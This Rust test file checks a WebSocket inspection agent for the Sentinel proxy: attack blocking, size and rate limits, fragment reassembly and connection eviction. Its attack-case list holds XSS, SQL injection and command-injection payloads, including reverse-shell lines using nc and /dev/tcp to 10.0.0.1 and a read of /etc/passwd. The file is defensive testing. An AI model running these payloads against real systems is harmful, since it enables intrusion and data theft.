//! Protocol v1 over the Unix socket, driven by Sentinel 0.4.14's own `AgentClient` against the
//! real agent binary: every WebSocket decision the core issue names.

use std::time::Duration;

use conformance::v1::{decision, V1Client as Client};
use conformance::{Agent, AgentConfig};
use sentinel_agent_protocol::{
    AgentClient, AgentResponse, Decision, EventType, WebSocketDecision, WebSocketFrameEvent,
};

const TIMEOUT: Duration = Duration::from_secs(5);

fn assert_allow(response: &AgentResponse) {
    assert_eq!(decision(response), WebSocketDecision::Allow, "{response:?}");
}

fn assert_close(response: &AgentResponse, code: u16, tag: &str) {
    match decision(response) {
        WebSocketDecision::Close { code: c, reason } => {
            assert_eq!(c, code, "{response:?}");
            assert!(reason.len() <= 123);
        }
        other => panic!("expected close {code}, got {other:?} ({response:?})"),
    }
    assert!(
        response.audit.tags.iter().any(|t| t == tag),
        "tag {tag} missing: {response:?}"
    );
}

#[tokio::test]
async fn clean_text_and_json_are_allowed() {
    let agent = Agent::start_default();
    let mut client = Client::connect(&agent).await;
    for text in [
        "hello there",
        r#"{"type":"message","data":{"text":"see you at 5"}}"#,
        "Hi; how are you?",
        "a | b",
        "I love C#",
        "see you --",
        "0xdeadbeef",
        "online=true",
        "I need sleep (8h)",
    ] {
        let response = client.text("clean", text).await;
        assert_allow(&response);
        assert!(response.audit.tags.is_empty(), "{text}: {response:?}");
    }
}

#[tokio::test]
async fn each_attack_class_is_closed_with_1008_and_its_tag() {
    let agent = Agent::start_default();
    let mut client = Client::connect(&agent).await;
    let cases = [
        ("<script>alert(document.cookie)</script>", "ws-xss"),
        ("<img src=x onerror=alert(1)>", "ws-xss"),
        ("<a href=\"javascript:alert(1)\">x</a>", "ws-xss"),
        ("<iframe src=//evil.example>", "ws-xss"),
        ("1' UNION SELECT username, password FROM users--", "ws-sqli"),
        ("admin' OR '1'='1", "ws-sqli"),
        ("1; WAITFOR DELAY '0:0:5'--", "ws-sqli"),
        ("1 AND SLEEP(5)-- -", "ws-sqli"),
        (
            "' UNION SELECT table_name FROM information_schema.tables--",
            "ws-sqli",
        ),
        ("127.0.0.1; cat /etc/passwd", "ws-cmd-injection"),
        ("x | nc -e /bin/sh 10.0.0.1 4444", "ws-cmd-injection"),
        ("a && whoami", "ws-cmd-injection"),
        ("`id`", "ws-cmd-injection"),
        ("$(uname -a)", "ws-cmd-injection"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ws-cmd-injection"),
    ];
    for (index, (payload, tag)) in cases.iter().enumerate() {
        let response = client.text(&format!("attack-{index}"), payload).await;
        assert!(
            matches!(
                decision(&response),
                WebSocketDecision::Close { code: 1008, .. }
            ),
            "{payload} not closed: {response:?}"
        );
        assert_close(&response, 1008, tag);
        assert!(
            !response.audit.rule_ids.is_empty(),
            "{payload}: {response:?}"
        );
        if let WebSocketDecision::Close { reason, .. } = decision(&response) {
            assert!(reason.starts_with("Policy violation"), "{reason}");
            assert!(
                !reason.contains(payload),
                "reason echoes the payload: {reason}"
            );
        }
    }
}

#[tokio::test]
async fn detect_only_allows_with_the_same_tags() {
    let agent = AgentConfig::default()
        .args(["--block-mode", "false"])
        .start();
    let mut client = Client::connect(&agent).await;
    let response = client.text("d", "<script>alert(1)</script>").await;
    assert_allow(&response);
    assert!(
        response.audit.tags.contains(&"ws-xss".to_string()),
        "{response:?}"
    );
    assert!(
        response.audit.tags.contains(&"detect-only".to_string()),
        "{response:?}"
    );
    let log = agent.wait_for_log("frame violation", TIMEOUT);
    assert!(log.contains("ws-xss"));
}

#[tokio::test]
async fn size_limits_close_with_1009() {
    let agent = AgentConfig::default()
        .args([
            "--max-text-frame-size",
            "16",
            "--max-binary-frame-size",
            "8",
            "--max-message-size",
            "40",
        ])
        .start();
    let mut client = Client::connect(&agent).await;
    assert_allow(&client.text("s1", "sixteen bytes ok").await);
    assert_close(
        &client.text("s2", "seventeen bytes!!").await,
        1009,
        "ws-size-limit",
    );
    assert_allow(&client.frame("s3", "binary", &[0u8; 8], true, true).await);
    assert_close(
        &client.frame("s4", "binary", &[0u8; 9], true, true).await,
        1009,
        "ws-size-limit",
    );
    // A continuation inherits the text limit of its first fragment.
    assert_allow(&client.frame("s5", "text", b"short", true, false).await);
    assert_close(
        &client
            .frame("s5", "continuation", &[b'a'; 17], true, true)
            .await,
        1009,
        "ws-size-limit",
    );
    // Message size counts all fragments: 3 x 15 = 45 > 40.
    assert_allow(&client.frame("s6", "text", &[b'a'; 15], true, false).await);
    assert_allow(
        &client
            .frame("s6", "continuation", &[b'b'; 15], true, false)
            .await,
    );
    assert_close(
        &client
            .frame("s6", "continuation", &[b'c'; 15], true, true)
            .await,
        1009,
        "ws-size-limit",
    );
    // The next message on the same connection starts afresh.
    assert_allow(&client.text("s6", "fine again").await);
}

#[tokio::test]
async fn rate_limits_apply_per_connection() {
    let agent = AgentConfig::default()
        .args(["--max-messages-per-sec", "1", "--rate-limit-burst", "2"])
        .start();
    let mut client = Client::connect(&agent).await;
    // Capacity = rate + burst = 3 messages at once.
    for _ in 0..3 {
        assert_allow(&client.text("conn-a", "hi").await);
    }
    assert_close(&client.text("conn-a", "hi").await, 1008, "ws-rate-limit");
    // Another WebSocket has its own bucket.
    for _ in 0..3 {
        assert_allow(&client.text("conn-b", "hi").await);
    }
    // Control frames and the server's messages never count.
    assert_allow(&client.frame("conn-b", "ping", b"", true, true).await);
    assert_allow(
        &client
            .frame("conn-b", "text", b"from server", false, true)
            .await,
    );
    assert_allow(&client.frame("conn-b", "close", &[3, 232], true, true).await);
}

#[tokio::test]
async fn byte_rate_limit_counts_payload_bytes() {
    let agent = AgentConfig::default()
        .args(["--max-bytes-per-sec", "100"])
        .start();
    let mut client = Client::connect(&agent).await;
    assert_allow(&client.text("bytes", &"a".repeat(60)).await);
    assert_close(
        &client.text("bytes", &"a".repeat(60)).await,
        1008,
        "ws-rate-limit",
    );
    assert_allow(&client.text("other", &"a".repeat(60)).await);
}

#[tokio::test]
async fn both_directions_are_inspected() {
    let agent = Agent::start_default();
    let mut client = Client::connect(&agent).await;
    assert_close(
        &client
            .frame("dir", "text", b"<script>alert(1)</script>", false, true)
            .await,
        1008,
        "ws-xss",
    );
    assert_close(
        &client
            .frame("dir2", "text", b"<script>alert(1)</script>", true, true)
            .await,
        1008,
        "ws-xss",
    );
}

#[tokio::test]
async fn xss_split_across_three_fragments_is_closed_on_the_third() {
    let agent = Agent::start_default();
    let mut client = Client::connect(&agent).await;
    assert_allow(
        &client
            .frame("frag", "text", b"look <img src=x ", true, false)
            .await,
    );
    // A ping between fragments is allowed and does not disturb reassembly.
    assert_allow(&client.frame("frag", "ping", b"", true, true).await);
    assert_allow(
        &client
            .frame("frag", "continuation", b"oner", true, false)
            .await,
    );
    assert_close(
        &client
            .frame("frag", "continuation", b"ror=alert(1)>", true, true)
            .await,
        1008,
        "ws-xss",
    );

    // Split inside a multi-byte UTF-8 character ("é" = c3 a9) and an attack after it.
    let message = "caf\u{e9} <script>alert(1)</script>".as_bytes().to_vec();
    let cut = 4; // between 0xc3 and 0xa9
    assert_allow(
        &client
            .frame("utf8", "text", &message[..cut], true, false)
            .await,
    );
    assert_allow(
        &client
            .frame("utf8", "continuation", &message[cut..12], true, false)
            .await,
    );
    assert_close(
        &client
            .frame("utf8", "continuation", &message[12..], true, true)
            .await,
        1008,
        "ws-xss",
    );
}

#[tokio::test]
async fn control_frames_are_allowed() {
    let agent = Agent::start_default();
    let mut client = Client::connect(&agent).await;
    for opcode in ["ping", "pong", "close"] {
        assert_allow(&client.frame("ctl", opcode, b"<script>", true, true).await);
    }
}

#[tokio::test]
async fn custom_patterns_from_flags_and_env() {
    let agent = AgentConfig::default()
        .args([
            "--custom-patterns",
            r"secret-[0-9]{2,4}",
            "--custom-patterns",
            "forbidden",
        ])
        .start();
    let mut client = Client::connect(&agent).await;
    let response = client.text("c", "my secret-1234").await;
    assert_close(&response, 1008, "ws-custom-pattern");
    assert!(
        response.audit.rule_ids.contains(&"custom-0".to_string()),
        "{response:?}"
    );
    let response = client.text("c2", "this is FORBIDDEN").await;
    assert!(
        response.audit.rule_ids.contains(&"custom-1".to_string()),
        "{response:?}"
    );
    assert_allow(&client.text("c3", "nothing to see").await);
    drop(agent);

    let agent = AgentConfig::default()
        .env("WS_PATTERNS", r"x{2\,3}y,zebra")
        .start();
    let mut client = Client::connect(&agent).await;
    assert_close(&client.text("e", "axxy").await, 1008, "ws-custom-pattern");
    assert_close(
        &client.text("e2", "a zebra").await,
        1008,
        "ws-custom-pattern",
    );
    assert_allow(&client.text("e3", "xy").await);
}

#[tokio::test]
async fn binary_is_ignored_by_default_and_inspected_on_request() {
    let attack = b"\x00\x01<script>alert(1)</script>";
    let agent = Agent::start_default();
    let mut client = Client::connect(&agent).await;
    assert_allow(&client.frame("bin", "binary", attack, true, true).await);
    drop(agent);
    let agent = AgentConfig::default().args(["--inspect-binary"]).start();
    let mut client = Client::connect(&agent).await;
    assert_close(
        &client.frame("bin", "binary", attack, true, true).await,
        1008,
        "ws-xss",
    );
}

#[tokio::test]
async fn bad_base64_is_decided_by_fail_open() {
    for (fail_open, expect_allow) in [("false", false), ("true", true)] {
        let agent = AgentConfig::default()
            .args(["--fail-open", fail_open])
            .start();
        let mut client = AgentClient::unix_socket("t", agent.socket(), TIMEOUT)
            .await
            .unwrap();
        let event = WebSocketFrameEvent {
            correlation_id: "b64".into(),
            opcode: "text".into(),
            data: "%%%not base64%%%".into(),
            client_to_server: true,
            frame_index: 0,
            fin: true,
            route_id: None,
            client_ip: "192.0.2.1".into(),
        };
        let response = client
            .send_event(EventType::WebSocketFrame, &event)
            .await
            .unwrap();
        match decision(&response) {
            WebSocketDecision::Allow => assert!(expect_allow, "{response:?}"),
            WebSocketDecision::Close { code, .. } => {
                assert!(!expect_allow);
                assert_eq!(code, 1011);
            }
            other => panic!("{other:?}"),
        }
        agent.wait_for_log("not valid base64", TIMEOUT);
    }
}

#[tokio::test]
async fn configure_event_is_applied_or_rejected_by_key() {
    let agent = Agent::start_default();
    let mut client = Client::connect(&agent).await;
    let response = client
        .configure(serde_json::json!({"block-mode": false, "custom-patterns": ["pineapple"]}))
        .await;
    assert_eq!(response.decision, Decision::Allow);
    let response = client.text("cfg", "I like pineapple").await;
    assert_allow(&response);
    assert!(response
        .audit
        .tags
        .contains(&"ws-custom-pattern".to_string()));
    assert!(response.audit.tags.contains(&"detect-only".to_string()));

    let response = client
        .configure(serde_json::json!({"max-messages-per-sec": "fast"}))
        .await;
    match &response.decision {
        Decision::Block { body, .. } => assert!(
            body.as_deref()
                .unwrap_or("")
                .contains("max-messages-per-sec"),
            "{response:?}"
        ),
        other => panic!("expected a rejection, got {other:?}"),
    }
    // The running configuration stays.
    let response = client.text("cfg", "I like pineapple").await;
    assert!(response
        .audit
        .tags
        .contains(&"ws-custom-pattern".to_string()));
}

#[tokio::test]
async fn sixty_four_concurrent_connections() {
    let agent = Agent::start_default();
    let mut tasks = Vec::new();
    for n in 0..64 {
        let socket = agent.socket().to_path_buf();
        tasks.push(tokio::spawn(async move {
            let mut client = Client::connect_path(&socket).await;
            for i in 0..20 {
                let cid = format!("conc-{n}");
                if i % 5 == 4 {
                    let response = client
                        .text(&cid, "' UNION SELECT password FROM users--")
                        .await;
                    assert!(matches!(
                        decision(&response),
                        WebSocketDecision::Close { code: 1008, .. }
                    ));
                } else {
                    assert_allow(&client.text(&cid, "just chatting").await);
                }
            }
        }));
    }
    for task in tasks {
        task.await.expect("connection task");
    }
}

#[tokio::test]
async fn idle_connections_are_evicted() {
    let agent = AgentConfig::default()
        .args(["--idle-timeout", "1"])
        .with_metrics()
        .start();
    let mut client = Client::connect(&agent).await;
    for n in 0..5 {
        assert_allow(&client.text(&format!("idle-{n}"), "hello").await);
    }
    assert_eq!(agent.metric("ws_agent_tracked_connections"), Some(5.0));
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while agent.metric("ws_agent_tracked_connections") != Some(0.0) {
        assert!(
            std::time::Instant::now() < deadline,
            "connections were never evicted"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        agent.metric("ws_agent_evictions_total{reason=\"idle\"}"),
        Some(5.0)
    );
}

#[tokio::test]
async fn close_in_both_directions_ends_the_state() {
    let agent = AgentConfig::default().with_metrics().start();
    let mut client = Client::connect(&agent).await;
    assert_allow(&client.text("bye", "hello").await);
    assert_eq!(agent.metric("ws_agent_tracked_connections"), Some(1.0));
    assert_allow(&client.frame("bye", "close", &[3, 232], true, true).await);
    assert_allow(&client.frame("bye", "close", &[3, 232], false, true).await);
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while agent.metric("ws_agent_tracked_connections") != Some(0.0) {
        assert!(
            std::time::Instant::now() < deadline,
            "closed connection still tracked"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn max_connections_evicts_the_least_recently_seen() {
    let agent = AgentConfig::default()
        .args(["--max-connections", "10"])
        .with_metrics()
        .start();
    let mut client = Client::connect(&agent).await;
    for n in 0..25 {
        assert_allow(&client.text(&format!("cap-{n}"), "hello").await);
    }
    let tracked = agent.metric("ws_agent_tracked_connections").unwrap();
    assert!(tracked <= 10.0, "tracked {tracked}");
    assert!(
        agent
            .metric("ws_agent_evictions_total{reason=\"capacity\"}")
            .unwrap()
            >= 15.0
    );
}

#[tokio::test]
async fn total_reassembly_memory_is_bounded_across_connections() {
    let agent = AgentConfig::default()
        .args(["--max-buffered-bytes", "100"])
        .with_metrics()
        .start();
    let mut client = Client::connect(&agent).await;
    assert_allow(
        &client
            .frame("buf-a", "text", &[b'a'; 60], true, false)
            .await,
    );
    // A second WebSocket's unfinished message would take the total over 100 bytes.
    let response = client
        .frame("buf-b", "text", &[b'b'; 60], true, false)
        .await;
    assert_close(&response, 1009, "ws-size-limit");
    assert!(
        response
            .audit
            .reason_codes
            .contains(&"reassembly-buffer".to_string()),
        "{response:?}"
    );
    assert_eq!(agent.metric("ws_agent_reassembly_bytes"), Some(60.0));
    // When the first message completes, its bytes are given back.
    assert_allow(
        &client
            .frame("buf-a", "continuation", b"end", true, true)
            .await,
    );
    assert_eq!(agent.metric("ws_agent_reassembly_bytes"), Some(0.0));
    assert_allow(
        &client
            .frame("buf-c", "text", &[b'c'; 60], true, false)
            .await,
    );
}

#[tokio::test]
async fn transport_connections_over_the_limit_are_closed_at_once() {
    use tokio::io::AsyncReadExt;
    let agent = AgentConfig::default()
        .args(["--max-transport-connections", "2"])
        .with_metrics()
        .start();
    let mut first = Client::connect(&agent).await;
    assert_allow(&first.text("tc", "hello").await);
    // The harness's readiness probe may still be counted for a moment.
    let deadline = std::time::Instant::now() + TIMEOUT;
    while agent.metric("ws_agent_transport_connections") != Some(1.0) {
        assert!(
            std::time::Instant::now() < deadline,
            "probe connection never closed"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let mut second = Client::connect(&agent).await;
    assert_allow(&second.text("tc", "hello").await);
    let mut third = tokio::net::UnixStream::connect(agent.socket())
        .await
        .unwrap();
    let mut buf = [0u8; 1];
    let read = tokio::time::timeout(TIMEOUT, third.read(&mut buf))
        .await
        .unwrap();
    assert!(
        matches!(read, Ok(0) | Err(_)),
        "third connection should be closed: {read:?}"
    );
    agent.wait_for_log("too many Unix socket connections", TIMEOUT);
    // The ones already open keep working.
    assert_allow(&first.text("tc", "still fine").await);
}

/// Sends raw bytes as one v1 message and reads the answer.
async fn raw_v1(agent: &Agent, body: &[u8]) -> serde_json::Value {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::UnixStream::connect(agent.socket())
        .await
        .unwrap();
    stream
        .write_all(&(body.len() as u32).to_be_bytes())
        .await
        .unwrap();
    stream.write_all(body).await.unwrap();
    let length = stream.read_u32().await.unwrap() as usize;
    let mut response = vec![0; length];
    stream.read_exact(&mut response).await.unwrap();
    serde_json::from_slice(&response).unwrap()
}

#[tokio::test]
async fn malformed_v1_requests_are_answered_by_fail_open() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    for (fail_open, expected) in [
        (
            "false",
            serde_json::json!({"close": {"code": 1011, "reason": "Inspection unavailable"}}),
        ),
        ("true", serde_json::json!("allow")),
    ] {
        let agent = AgentConfig::default()
            .args(["--fail-open", fail_open])
            .start();
        let bad_json = raw_v1(&agent, b"{\"version\":1,\"event_type\":").await;
        assert_eq!(bad_json["version"], 1);
        assert_eq!(bad_json["websocket_decision"], expected, "{bad_json}");
        let unknown = raw_v1(
            &agent,
            br#"{"version":1,"event_type":"teleport","payload":{}}"#,
        )
        .await;
        assert_eq!(unknown["websocket_decision"], expected, "{unknown}");
        let http = raw_v1(
            &agent,
            br#"{"version":1,"event_type":"request_headers","payload":{}}"#,
        )
        .await;
        assert_eq!(http["decision"], "allow", "{http}");
        agent.wait_for_log("unknown v1 event type", TIMEOUT);

        // A length over 10 MiB is answered (without reading or allocating it), then the
        // connection is closed.
        let mut stream = tokio::net::UnixStream::connect(agent.socket())
            .await
            .unwrap();
        stream
            .write_all(&[0x00, 0xa0, 0x00, 0x01, b'{'])
            .await
            .unwrap();
        let length = stream.read_u32().await.unwrap() as usize;
        let mut response = vec![0; length];
        stream.read_exact(&mut response).await.unwrap();
        let response: serde_json::Value = serde_json::from_slice(&response).unwrap();
        assert_eq!(response["websocket_decision"], expected, "{response}");
        let mut rest = Vec::new();
        let closed = tokio::time::timeout(TIMEOUT, stream.read_to_end(&mut rest))
            .await
            .unwrap();
        assert!(closed.is_ok() && rest.is_empty());
        agent.wait_for_log("v1 request too large", TIMEOUT);
    }
}

#[tokio::test]
async fn idle_connections_hibernate_and_wake_with_their_state() {
    let agent = AgentConfig::default()
        .args(["--hibernate-after", "1", "--max-messages-per-sec", "5"])
        .with_metrics()
        .start();
    let mut client = Client::connect(&agent).await;
    for n in 0..3 {
        assert_allow(&client.text(&format!("h-{n}"), "hello").await);
    }
    // Half a close handshake before hibernating.
    assert_allow(&client.frame("h-0", "close", &[3, 232], true, true).await);
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while agent.metric("ws_agent_connection_actors") != Some(0.0) {
        assert!(
            std::time::Instant::now() < deadline,
            "connections never hibernated"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // Hibernated connections are still tracked, with their figures.
    assert_eq!(agent.metric("ws_agent_tracked_connections"), Some(3.0));
    let (_, body) = agent.http_get("/connections");
    let view: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(view["tracked"], 3);
    // A frame wakes the connection with its parked state: the other half of the close handshake
    // ends it.
    assert_allow(&client.frame("h-0", "close", &[3, 232], false, true).await);
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while agent.metric("ws_agent_tracked_connections") != Some(2.0) {
        assert!(
            std::time::Instant::now() < deadline,
            "woken connection lost its close flag"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(
        agent.metric("ws_agent_evictions_total{reason=\"close\"}"),
        Some(1.0)
    );
    // Inspection works as before on a woken connection.
    assert_close(
        &client.text("h-1", "<script>alert(1)</script>").await,
        1008,
        "ws-xss",
    );
}
